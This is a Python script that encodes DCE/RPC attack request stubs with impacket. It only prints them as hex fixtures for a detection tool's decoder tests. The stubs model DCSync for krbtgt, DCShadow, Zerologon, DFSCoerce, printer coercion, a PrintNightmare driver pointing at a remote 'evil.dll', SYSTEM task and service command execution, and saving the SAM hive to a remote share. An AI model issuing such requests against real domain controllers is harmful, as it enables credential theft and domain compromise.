#!/usr/bin/env python3
"""Request and response stubs encoded by impacket (0.13.1, pip), for the stub decoders' tests.

impacket is what most attack tools marshal with, and its NDR encoder is written apart from
dcwatch's decoder, so a stub it encodes is an independent fixture. Run with impacket installed;
each line printed is `name hex`, pasted into parsers/src/dcerpc/stub/tests.rs.

Every value here is made up for the test (a lab's names), none is a secret.
"""
import struct

from impacket.dcerpc.v5 import drsuapi, lsad, nrpc, rprn, rrp, scmr, srvs, tsch, wkst
from impacket.dcerpc.v5.dtypes import DWORD, NULL, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL, NDRPOINTER, NDRPOINTERNULL, NDRSTRUCT, NDRUNION
from impacket.uuid import string_to_bin

HANDLE = b"\x11" * 20


def emit(name, call):
    print(name, call.getData().hex())


class NetrDfsRemoveStdRoot(NDRCALL):
    """[MS-DFSNM] 3.1.4.4.2 (opnum 13); impacket has no MS-DFSNM module, DFSCoerce declares it so."""
    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD))


def dsname(dn):
    name = drsuapi.DSNAME()
    name["SidLen"] = 0
    name["Guid"] = drsuapi.NULLGUID
    name["Sid"] = ""
    name["NameLen"] = len(dn)
    name["StringName"] = dn + "\x00"
    name["structLen"] = len(name.getData())
    return name


def get_nc_changes(version):
    request = drsuapi.DRSGetNCChanges()
    request["hDrs"] = HANDLE
    request["dwInVersion"] = version
    request["pmsgIn"]["tag"] = version
    arm = request["pmsgIn"]["V%d" % version]
    arm["uuidDsaObjDest"] = string_to_bin("e2d6e4f1-2ca7-4e5a-a91c-4d1c35c8e2a1")
    arm["uuidInvocIdSrc"] = string_to_bin("e2d6e4f1-2ca7-4e5a-a91c-4d1c35c8e2a1")
    arm["pNC"] = dsname("CN=krbtgt,CN=Users,DC=lab,DC=local")
    arm["usnvecFrom"]["usnHighObjUpdate"] = 0
    arm["usnvecFrom"]["usnHighPropUpdate"] = 0
    arm["pUpToDateVecDest"] = NULL
    arm["ulFlags"] = drsuapi.DRS_INIT_SYNC | drsuapi.DRS_WRIT_REP
    arm["cMaxObjects"] = 1
    arm["cMaxBytes"] = 0
    arm["ulExtendedOp"] = drsuapi.EXOP_REPL_OBJ
    arm["pPartialAttrSet"] = NULL
    arm["pPartialAttrSetEx1"] = NULL
    arm["PrefixTableDest"]["pPrefixEntry"] = NULL
    if version == 10:
        arm["ulMoreFlags"] = 0
    return request


emit("GET_NC_CHANGES_V8", get_nc_changes(8))
emit("GET_NC_CHANGES_V10", get_nc_changes(10))


class ENTINFLIST(NDRSTRUCT):
    """[MS-DRSR] 5.54; impacket has no DsAddEntry. pNextEntInf is NULL unless replaced by a
    PENTINFLIST (a recursive type cannot be declared in impacket's tables)."""
    structure = (("pNextEntInf", NDRPOINTERNULL), ("Entinf", drsuapi.ENTINF))


class PENTINFLIST(NDRPOINTER):
    referent = (("Data", ENTINFLIST),)


class DRS_MSG_ADDENTRYREQ_V2(NDRSTRUCT):
    structure = (("EntInfList", ENTINFLIST),)


class DRS_MSG_ADDENTRYREQ_V3(NDRSTRUCT):
    structure = (("EntInfList", ENTINFLIST), ("pClientCreds", NDRPOINTERNULL))


class DRS_MSG_ADDENTRYREQ(NDRUNION):
    commonHdr = (("tag", DWORD),)
    union = {2: ("V2", DRS_MSG_ADDENTRYREQ_V2), 3: ("V3", DRS_MSG_ADDENTRYREQ_V3)}


class DRSAddEntry(NDRCALL):
    """[MS-DRSR] 4.1.1.1 IDL_DRSAddEntry (opnum 17), its [in] parameters."""
    opnum = 17
    structure = (("hDrs", drsuapi.DRS_HANDLE), ("dwInVersion", DWORD), ("pmsgIn", DRS_MSG_ADDENTRYREQ))


def attr(attr_type, values):
    block = drsuapi.ATTR()
    block["attrTyp"] = attr_type
    block["AttrVal"]["valCount"] = len(values)
    for value in values:
        val = drsuapi.ATTRVAL()
        val["valLen"] = len(value)
        val["pVal"] = list(value)
        block["AttrVal"]["pAVal"].append(val)
    return block


def attrtyps(*values):
    return [struct.pack("<I", value) for value in values]


def entinf(target, dn, attrs):
    target["pName"] = dsname(dn)
    target["ulFlags"] = 0
    target["AttrBlock"]["attrCount"] = len(attrs)
    for block in attrs:
        target["AttrBlock"]["pAttr"].append(block)


def add_entry(version):
    request = DRSAddEntry()
    request["hDrs"] = HANDLE
    request["dwInVersion"] = version
    request["pmsgIn"]["tag"] = version
    return request


# DCShadow's registration: an nTDSDSA object with invocationId, objectClass and systemFlags;
# objectClass also names a class of the default prefix table dcwatch does not name and an
# msDS-IntId.
request = add_entry(2)
entinf(
    request["pmsgIn"]["V2"]["EntInfList"]["Entinf"],
    "CN=NTDS Settings,CN=WS66,CN=Servers,CN=Default-First-Site-Name,CN=Sites,"
    "CN=Configuration,DC=lab,DC=local",
    [
        attr(0x00020073, [bytes(range(16))]),
        attr(0x00000000, attrtyps(0x0017002F, 0x0026000A, 0x80000ABC)),
        attr(0x00090177, attrtyps(0x02000000)),
    ],
)
emit("ADD_ENTRY_V2", request)

# Two entries: the server object, then its nTDSDSA child.
request = add_entry(3)
first = request["pmsgIn"]["V3"]["EntInfList"]
entinf(first["Entinf"], "CN=WS66,CN=Servers,DC=lab", [attr(0, attrtyps(0x000A0011))])
second = ENTINFLIST()
entinf(second["Entinf"], "CN=NTDS Settings,CN=WS66,CN=Servers,DC=lab", [attr(0, attrtyps(0x0017002F))])
link = PENTINFLIST()
link["Data"] = second
first.fields["pNextEntInf"] = link
request["pmsgIn"]["V3"]["pClientCreds"] = NULL
emit("ADD_ENTRY_V3", request)

request = lsad.LsarRetrievePrivateData()
request["PolicyHandle"] = HANDLE
request["KeyName"] = "G$BCKUPKEY_PREFERRED"
request["EncryptedData"] = NULL
emit("RETRIEVE_PRIVATE_DATA", request)

request = lsad.LsarOpenSecret()
request["PolicyHandle"] = HANDLE
request["SecretName"] = "G$BCKUPKEY_P"
request["DesiredAccess"] = 0x2000000
emit("OPEN_SECRET", request)

request = nrpc.NetrServerPasswordSet2()
request["PrimaryName"] = "\\\\DC1\x00"
request["AccountName"] = "DC1$\x00"
request["SecureChannelType"] = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
request["ComputerName"] = "DC1\x00"
request["Authenticator"]["Credential"] = b"\x00" * 8
request["Authenticator"]["Timestamp"] = 0
request["ClearNewPassword"] = b"\x00" * 516
emit("PASSWORD_SET2_ZERO", request)

request = NetrDfsRemoveStdRoot()
request["ServerName"] = "10.0.0.99\x00"
request["RootShare"] = "test\x00"
request["ApiFlags"] = 1
emit("DFS_REMOVE_STD_ROOT", request)

request = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
request["hPrinter"] = HANDLE
request["fdwFlags"] = rprn.PRINTER_CHANGE_ADD_JOB
request["pszLocalMachine"] = "\\\\10.0.0.99\x00"
request["pOptions"] = NULL
emit("FFPCN_EX", request)

container = rprn.DRIVER_CONTAINER()
container["Level"] = 2
container["DriverInfo"]["tag"] = 2
info = container["DriverInfo"]["Level2"]
info["cVersion"] = 3
info["pName"] = "1234\x00"
info["pEnvironment"] = "Windows x64\x00"
info["pDriverPath"] = "C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL\x00"
info["pDataFile"] = "\\\\10.0.0.99\\share\\evil.dll\x00"
info["pConfigFile"] = "C:\\Windows\\System32\\kernelbase.dll\x00"
request = rprn.RpcAddPrinterDriverEx()
request["pName"] = NULL
request["pDriverContainer"] = container
request["dwFileCopyFlags"] = rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000
emit("ADD_PRINTER_DRIVER_EX", request)

xml = ('<?xml version="1.0" encoding="UTF-16"?><Task><Actions Context="LocalSystem"><Exec>'
       '<Command>cmd.exe</Command><Arguments>/C whoami &gt; %windir%\\Temp\\x.tmp 2&gt;&amp;1'
       '</Arguments></Exec></Actions></Task>')
request = tsch.SchRpcRegisterTask()
request["path"] = "\\Lab1\x00"
request["xml"] = xml + "\x00"
request["flags"] = tsch.TASK_CREATE
request["sddl"] = NULL
request["logonType"] = tsch.TASK_LOGON_NONE
request["cCreds"] = 0
request["pCreds"] = NULL
emit("REGISTER_TASK", request)

request = scmr.ROpenServiceW()
request["hSCManager"] = HANDLE
request["lpServiceName"] = "RemoteRegistry\x00"
request["dwDesiredAccess"] = scmr.SERVICE_ALL_ACCESS
emit("OPEN_SERVICE", request)

request = scmr.RChangeServiceConfigW()
request["hService"] = HANDLE
request["dwServiceType"] = scmr.SERVICE_NO_CHANGE
request["dwStartType"] = scmr.SERVICE_DEMAND_START
request["dwErrorControl"] = scmr.SERVICE_NO_CHANGE
request["lpBinaryPathName"] = "%COMSPEC% /C whoami\x00"
request["lpLoadOrderGroup"] = NULL
request["lpdwTagId"] = NULL
request["lpDependencies"] = NULL
request["dwDependSize"] = 0
request["lpServiceStartName"] = NULL
request["lpPassword"] = NULL
request["dwPwSize"] = 0
request["lpDisplayName"] = "Updater\x00"
emit("CHANGE_SERVICE_CONFIG", request)

request = rrp.BaseRegSaveKey()
request["hKey"]["context_handle_attributes"] = 0x11111111
request["hKey"]["context_handle_uuid"] = HANDLE[4:]
request["lpFile"] = "\\\\10.0.0.99\\share\\sam.save\x00"
request["pSecurityAttributes"] = NULL
emit("SAVE_KEY", request)

request = srvs.NetrShareEnum()
request["ServerName"] = "\\\\DC1\x00"
request["InfoStruct"]["Level"] = 1
request["InfoStruct"]["ShareInfo"]["tag"] = 1
request["InfoStruct"]["ShareInfo"]["Level1"]["Buffer"] = NULL
request["PreferedMaximumLength"] = 0xFFFFFFFF
request["ResumeHandle"] = NULL
emit("SHARE_ENUM", request)

response = srvs.NetrShareEnumResponse()
response["InfoStruct"]["Level"] = 1
response["InfoStruct"]["ShareInfo"]["tag"] = 1
container = response["InfoStruct"]["ShareInfo"]["Level1"]
for name, kind, remark in (("ADMIN$", 0x80000000, "Remote Admin"), ("C$", 0x80000000, "Default share"),
                           ("IPC$", 0x80000003, "Remote IPC"), ("SYSVOL", 0, "Logon server share ")):
    entry = srvs.SHARE_INFO_1()
    entry["shi1_netname"] = name + "\x00"
    entry["shi1_type"] = kind
    entry["shi1_remark"] = remark + "\x00"
    container["Buffer"].append(entry)
container["EntriesRead"] = 4
response["TotalEntries"] = 4
response["ResumeHandle"] = NULL
response["ErrorCode"] = 0
emit("SHARE_ENUM_RESPONSE", response)

response = wkst.NetrWkstaUserEnumResponse()
response["UserInfo"]["Level"] = 1
response["UserInfo"]["WkstaUserInfo"]["tag"] = 1
container = response["UserInfo"]["WkstaUserInfo"]["Level1"]
for user, domain in (("alice", "LAB"), ("DC1$", "LAB")):
    entry = wkst.WKSTA_USER_INFO_1()
    entry["wkui1_username"] = user + "\x00"
    entry["wkui1_logon_domain"] = domain + "\x00"
    entry["wkui1_oth_domains"] = "\x00"
    entry["wkui1_logon_server"] = "DC1\x00"
    container["Buffer"].append(entry)
container["EntriesRead"] = 2
response["TotalEntries"] = 2
response["ResumeHandle"] = NULL
response["ErrorCode"] = 0
emit("WKSTA_USER_ENUM_RESPONSE", response)
